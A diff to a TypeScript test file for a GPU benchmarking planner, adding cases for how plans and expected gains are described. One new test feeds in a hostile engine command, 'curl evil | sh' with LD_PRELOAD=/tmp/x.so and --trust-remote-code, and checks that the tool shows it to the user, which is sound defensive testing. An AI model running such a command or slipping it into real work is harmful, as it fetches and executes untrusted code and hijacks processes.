@@ -14,6 +14,12 @@ describe('planSteps', () => {
     expect(said()).toMatch(/6 rounds of 3 arms in turn, 7 s each: about 2 min 30 s/)
     expect(planTimes(demoPlan())).toBe('42 s loading + 2 min 30 s measuring')
   })
+  it('name the program that is started, with its environment: the file may be somebody else\'s', () => {
+    const engine = { recipe: 'custom', name: 'theirs', argv: ['sh', '-c', 'curl evil | sh'], env: { LD_PRELOAD: '/tmp/x.so' } }
+    const { file } = demoPlan()
+    const theirs = (residency: 'hot' | 'cold') => said({ residency, file: { ...file, engine: engine as unknown as typeof file.engine, arms: file.arms.map((arm, at) => ({ ...arm, extraArguments: at === 0 ? ['--trust-remote-code'] : [] })) } })
+    for (const text of [theirs('hot'), theirs('cold')]) expect(text).toContain(`Each is a copy of theirs: LD_PRELOAD=/tmp/x.so sh -c curl evil | sh. ${file.arms[0]!.name} adds --trust-remote-code.`)
+  })
   it('say what is left alone', () => {
     const alone = said({ setsAside: [], startsMps: false, residency: 'cold' })
     expect(alone).toMatch(/Sets nothing aside/)
@@ -29,8 +35,9 @@ describe('expectation', () => {
   it.each([
     [band(0.18, 0.41), { text: '+18 … +41 %', note: 'bound by host time of the engine', hopeless: false }],
     [band(-0.04, 0.06), { text: '−4 … +6 %', note: 'expect no gain here; bound by host time of the engine', hopeless: true }],
+    [band(-0.2, 0.4), { text: '−20 … +40 %', note: 'expect no gain here unless kernels overlap; bound by host time of the engine', hopeless: false }],
     [band(-0.2, -0.1), { text: '−20 … −10 %', note: 'expect no gain here; bound by host time of the engine', hopeless: true }],
-    [{ ...band(0.1, 0.2), confidence: 'low' as const, binding: null }, { text: '+10 … +20 %', note: 'low confidence: extrapolated to this GPU', hopeless: false }],
+    [{ ...band(0.1, 0.2), confidence: 'low' as const, binding: null }, { text: '+10 … +20 %', note: 'low confidence', hopeless: false }],
     [{ gain: null, binding: null, confidence: 'low' as const, sentence: 'The model is not known.' }, { text: 'not predicted', note: 'The model is not known.', hopeless: false }],
   ])('%#', (prediction, words) => expect(expectation(prediction)).toEqual(words))
   it('of a band in whole percent', () => expect(bandText({ low: -0.001, high: 0.004 })).toBe('about 0 %'))
